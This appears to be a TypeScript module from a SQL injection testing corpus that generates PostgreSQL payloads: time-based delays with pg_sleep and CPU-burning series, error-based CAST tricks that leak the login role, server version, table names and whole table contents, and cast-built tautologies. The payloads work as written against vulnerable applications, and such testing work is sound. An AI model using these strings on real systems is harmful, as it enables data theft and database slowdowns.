import type { InjectionPayload } from '../payload'
import { category, type CorpusContext } from './build'

const time = category('time')
const error = category('error')
const cast = category('cast')

/**
 * Payloads that reveal injection by delay or by what a database error says.
 * Every sleep runs once per statement (a scalar subquery), not once per row.
 */
export function timingAndErrors(context: CorpusContext): InjectionPayload[] {
  const s = context.sleep
  const slow = `(SELECT 1 FROM pg_sleep(${s}))`
  const heavy = '(SELECT count(*) FROM (SELECT generate_series(1, 100000000)) s)'
  const extraction = context.tables.map((table, i) => error('value', `extract-${i}`,
    `x' AND 1=CAST((SELECT string_agg(t::text, ',') FROM ${table} t) AS int) --`,
    `read every row of ${table} through a cast error`))
  return [
    time('value', 'concat-sleep', `x'||(SELECT pg_sleep(${s}))::text||'`,
      'sleep inside the literal'),
    time('value', 'and-sleep', `x' AND 1=${slow} --`, 'sleep in the WHERE clause'),
    time('value', 'or-sleep', `x' OR 1=${slow} OR 'a'='`, 'sleep behind OR'),
    time('value', 'stacked-sleep', `x'; SELECT pg_sleep(${s}); --`, 'sleep as its own statement'),
    time('value', 'sleep-for', `x'||(SELECT pg_sleep_for('${s} seconds'))::text||'`,
      'pg_sleep_for, for filters that only know pg_sleep'),
    time('value', 'heavy-series', `x'||${heavy}::text||'`, 'burn CPU instead of sleeping'),
    time('value', 'numeric-sleep', slow, 'sleep from a numeric context'),
    time('like-pattern', 'like-sleep', `%'||(SELECT pg_sleep(${s}))::text||'%`,
      'sleep from inside a LIKE literal'),
    time('order-direction', 'order-sleep', `ASC, ${slow}`, 'sleep from ORDER BY'),
    time('identifier', 'identifier-sleep', slow, 'sleep in place of a column'),
    time('json-key', 'json-key-sleep', `a'||(SELECT pg_sleep(${s}))::text||'`,
      'sleep from a JSON key literal'),

    error('value', 'cast-user', "x' AND 1=CAST(current_user AS int) --",
      'the error message shows the login role'),
    error('value', 'cast-version', "x' AND 1=CAST(version() AS int) --",
      'the error message shows the server version'),
    error('value', 'cast-tables',
      "x' AND 1=CAST((SELECT string_agg(tablename, ',') FROM pg_tables) AS int) --",
      'the error message lists the tables'),
    error('value', 'divide-by-zero', "x' AND 1/0=1 --", 'boolean oracle through an error'),
    error('value', 'regclass', "x'::regclass --", 'a catalog lookup error'),
    ...extraction,

    cast('value', 'text-cast', "x'::text OR 1::boolean --", 'casts to build a tautology'),
    cast('value', 'typed-literal', "x' OR bool 'true' --", 'type-prefixed literal'),
    cast('value', 'chr', "x' OR chr(65)='A' --", 'build characters without quotes'),
    cast('value', 'numeric-cast', '1::text', 'a cast where a number is expected'),
    cast('value', 'pg-typeof', "x' OR pg_typeof(1)::text='integer' --", 'catalog functions'),
  ]
}
